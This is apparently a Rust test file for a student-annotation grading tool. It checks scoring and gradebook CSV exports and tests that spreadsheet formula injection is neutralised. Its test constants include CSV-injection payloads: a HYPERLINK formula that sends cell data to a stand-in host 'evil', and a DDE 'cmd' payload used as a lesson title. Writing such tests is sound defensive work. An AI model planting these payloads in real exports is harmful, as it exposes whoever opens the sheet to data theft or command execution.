use super::*;
use crate::model::scoring::score;

fn student(
    name: &str,
    text: &TextIndex,
    key: &[KeySpan],
    spans: Vec<Span>,
) -> (StudentResult, Vec<Span>) {
    let sc = score(text, key, &spans);
    (
        StudentResult {
            name: name.into(),
            id: Some(format!("{name}-id")),
            file: format!("{name}.json"),
            score: sc,
            reanchored: false,
            orphaned: 0,
        },
        spans,
    )
}

#[test]
fn items_sorted_hardest_first_and_confusion_counts_chars() {
    let text = TextIndex::new("aaaa bbbb cccc dddd");
    let key = KeySpan::numbered([
        Span::new(0, 4, Label::Attribution),
        Span::new(5, 9, Label::Opinion),
    ]);
    let r = class_report(
        &text,
        &key,
        vec![
            student(
                "Bo",
                &text,
                &key,
                vec![
                    Span::new(0, 4, Label::Attribution),
                    Span::new(5, 9, Label::Unsupported),
                ],
            ),
            student("Al", &text, &key, vec![Span::new(0, 4, Label::Attribution)]),
        ],
    );
    assert_eq!(r.students[0].name, "Al");
    assert_eq!(
        r.items[0].index, 1,
        "the opinion item nobody found comes first"
    );
    assert_eq!(r.items[0].shares, [0.0, 0.0, 0.5, 0.5]);
    assert_eq!(r.items[0].most_given_instead(), Some(Label::Unsupported));
    assert_eq!(r.items[1].most_given_instead(), None);
    // attribution chars agreed by both students: 4 each
    assert_eq!(r.confusion[0][0], 8);
    // opinion chars marked unsupported by Bo, nothing by Al
    assert_eq!(r.confusion[1][2], 4);
    assert_eq!(r.confusion[1][3], 4);
    // "cccc dddd": 8 non-whitespace chars unmarked by either, twice
    assert_eq!(r.confusion[3][3], 16);
    assert_eq!(r.histogram.iter().sum::<usize>(), 2);
}

#[test]
fn item_figures_keep_the_key_file_position_when_an_item_was_not_placed() {
    let text = TextIndex::new("aaaa bbbb cccc dddd");
    // Item 0 of the key file could not be placed: the first scored item is item 1.
    let key = vec![KeySpan {
        span: Span::new(5, 9, Label::Opinion),
        optional: false,
        key_index: 1,
    }];
    let r = class_report(
        &text,
        &key,
        vec![student(
            "Al",
            &text,
            &key,
            vec![Span::new(5, 9, Label::Opinion)],
        )],
    );
    assert_eq!(r.items[0].index, 1);
}

#[test]
fn class_coverage_counts_students_per_char_run() {
    let text = TextIndex::new("aaaa bbbb cccc");
    let a = vec![
        Span::new(0, 9, Label::Opinion),
        Span::new(0, 4, Label::Opinion),
    ];
    let b = vec![Span::new(5, 14, Label::Opinion)];
    let c = class_coverage(&text, &[a, b]);
    assert_eq!(
        c[Label::Opinion.index()],
        vec![(0, 5, 1), (5, 9, 2), (9, 14, 1)]
    );
    assert!(c[Label::Attribution.index()].is_empty());
}

#[test]
fn gradebook_layouts() {
    let text = TextIndex::new("aaaa bbbb");
    let key = KeySpan::numbered([Span::new(0, 4, Label::Attribution)]);
    let r = class_report(
        &text,
        &key,
        vec![student(
            "Ana Lima",
            &text,
            &key,
            vec![Span::new(0, 4, Label::Attribution)],
        )],
    );
    let (h, rows) = gradebook(&r, GradebookFormat::Generic, "L1");
    assert_eq!(h[0], "name");
    assert_eq!(rows[0][2], "100.0");
    let (h, rows) = gradebook(&r, GradebookFormat::Canvas, "L1");
    assert_eq!(h[5], "L1");
    assert_eq!(rows[0][2], "Ana Lima-id");
    let (_, rows) = gradebook(&r, GradebookFormat::Moodle, "L1");
    assert_eq!((rows[0][0].as_str(), rows[0][1].as_str()), ("Ana", "Lima"));
}

/// Values a student could type as a name or id that a spreadsheet would run as a formula.
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil\"&A1,\"Ben\")",
    "+1-2",
    "-3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
];
/// An ordinary name with a comma and quotes, which the CSV must quote and keep whole.
const COMMA_AND_QUOTES: &str = "O'Neil, \"Bo\" Smith";
/// A lesson title that is a formula too (it heads the Canvas and Moodle grade columns).
const HOSTILE_TITLE: &str = "=cmd|' /C calc'!A0";

/// Each hostile value as both a student's name and id, and three ordinary students; all
/// found the one key item (score 100.0).
fn hostile_class() -> ClassReport {
    let text = TextIndex::new("aaaa bbbb");
    let key = KeySpan::numbered([Span::new(0, 4, Label::Attribution)]);
    let with_id = |name: &str, id: &str| {
        let (mut st, spans) = student(name, &text, &key, vec![Span::new(0, 4, Label::Attribution)]);
        st.id = Some(id.to_string());
        (st, spans)
    };
    let mut students: Vec<(StudentResult, Vec<Span>)> =
        HOSTILE.into_iter().map(|v| with_id(v, v)).collect();
    students.push(with_id("Ana Ruiz", "A-17"));
    students.push(with_id(COMMA_AND_QUOTES, "s 9"));
    // Only Moodle's last name ("-2+3") starts like a formula.
    students.push(with_id("Eve -2+3", "e-5"));
    class_report(&text, &key, students)
}

/// The gradebook written as CSV (as `store::export::gradebook_csv` does) and read back:
/// the header record first, then one record per student.
fn csv_round_trip(header: &[String], rows: &[Vec<String>]) -> Vec<Vec<String>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    let bytes = w.into_inner().unwrap();
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes.as_slice());
    rdr.records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The one student record whose column `col` is `value`.
fn record_with<'a>(records: &'a [Vec<String>], col: usize, value: &str) -> &'a [String] {
    let found: Vec<&Vec<String>> = records
        .iter()
        .skip(1)
        .filter(|r| r.get(col).map(String::as_str) == Some(value))
        .collect();
    assert_eq!(found.len(), 1, "{value:?} in column {col}: {records:?}");
    found[0]
}

fn quoted(v: &str) -> String {
    format!("'{v}")
}

#[test]
fn spreadsheet_safe_quotes_only_cells_that_start_like_a_formula() {
    for v in HOSTILE {
        assert_eq!(spreadsheet_safe(v), quoted(v), "{v:?}");
        assert!(looks_like_formula(v), "{v:?}");
    }
    for v in [
        "Ana Ruiz",
        COMMA_AND_QUOTES,
        "",
        "100.0",
        "a=b",
        "s-001",
        "ana@example.org",
        "'=1+1",
    ] {
        assert!(
            matches!(spreadsheet_safe(v), Cow::Borrowed(b) if b == v),
            "{v:?} is left as it is"
        );
    }
}

#[test]
fn generic_gradebook_neutralises_formula_names_and_ids() {
    let r = hostile_class();
    let (h, rows) = gradebook(&r, GradebookFormat::Generic, HOSTILE_TITLE);
    let records = csv_round_trip(&h, &rows);
    assert_eq!(records.len(), 1 + r.students.len());
    assert!(records.iter().all(|rec| rec.len() == 9), "{records:?}");
    assert_eq!(records[0], h);
    assert_eq!(
        records[0][0], "name",
        "the header has no formula to neutralise"
    );
    for v in HOSTILE {
        let rec = record_with(&records, 1, &quoted(v));
        assert_eq!(rec[0], quoted(v));
        assert_eq!(rec[2], "100.0");
    }
    for (name, id) in [
        ("Ana Ruiz", "A-17"),
        (COMMA_AND_QUOTES, "s 9"),
        ("Eve -2+3", "e-5"),
    ] {
        let rec = record_with(&records, 1, id);
        assert_eq!(rec[0], name, "an ordinary name is unchanged");
        assert_eq!(rec[2], "100.0");
    }
}

#[test]
fn canvas_gradebook_neutralises_formula_names_ids_and_title() {
    let r = hostile_class();
    let (h, rows) = gradebook(&r, GradebookFormat::Canvas, HOSTILE_TITLE);
    let records = csv_round_trip(&h, &rows);
    assert_eq!(records.len(), 1 + r.students.len());
    assert!(records.iter().all(|rec| rec.len() == 6), "{records:?}");
    assert_eq!(
        records[0],
        [
            "Student",
            "ID",
            "SIS User ID",
            "SIS Login ID",
            "Section",
            &quoted(HOSTILE_TITLE),
        ]
    );
    for v in HOSTILE {
        let rec = record_with(&records, 2, &quoted(v));
        let empty = String::new();
        assert_eq!(
            rec,
            [
                quoted(v),
                empty.clone(),
                quoted(v),
                empty.clone(),
                empty,
                "100.0".to_string(),
            ]
        );
    }
    for (name, id) in [
        ("Ana Ruiz", "A-17"),
        (COMMA_AND_QUOTES, "s 9"),
        ("Eve -2+3", "e-5"),
    ] {
        let rec = record_with(&records, 2, id);
        assert_eq!(rec, [name, "", id, "", "", "100.0"]);
    }
}

#[test]
fn moodle_gradebook_neutralises_formula_name_parts_ids_emails_and_title() {
    let r = hostile_class();
    let (h, rows) = gradebook(&r, GradebookFormat::Moodle, HOSTILE_TITLE);
    let records = csv_round_trip(&h, &rows);
    assert_eq!(records.len(), 1 + r.students.len());
    assert!(records.iter().all(|rec| rec.len() == 6), "{records:?}");
    assert_eq!(
        records[0][..4],
        ["First name", "Last name", "ID number", "Email address"]
    );
    assert_eq!(records[0][4], quoted(&format!("{HOSTILE_TITLE} (Real)")));
    assert_eq!(
        records[0][5],
        quoted(&format!("{HOSTILE_TITLE} (Feedback)"))
    );
    for v in HOSTILE {
        // An id with an `@` goes to the email column, any other to the ID number.
        let (idnum, email) = if v.contains('@') {
            (String::new(), quoted(v))
        } else {
            (quoted(v), String::new())
        };
        let id_col = if v.contains('@') { 3 } else { 2 };
        let rec = record_with(&records, id_col, &quoted(v));
        // Moodle's name is trimmed before it is split: a leading tab or carriage return
        // is gone and nothing is left to neutralise.
        let first = match v.trim() {
            t if t == v => quoted(v),
            t => t.to_string(),
        };
        assert_eq!(rec[..4], [first, String::new(), idnum, email], "{v:?}");
        assert_eq!(rec[4], "100.0");
    }
    for (first, last, id) in [
        ("Ana", "Ruiz".to_string(), "A-17"),
        ("O'Neil, \"Bo\"", "Smith".to_string(), "s 9"),
        ("Eve", quoted("-2+3"), "e-5"),
    ] {
        let rec = record_with(&records, 2, id);
        assert_eq!(rec[..4], [first, last.as_str(), id, ""]);
        assert_eq!(rec[4], "100.0");
    }
}
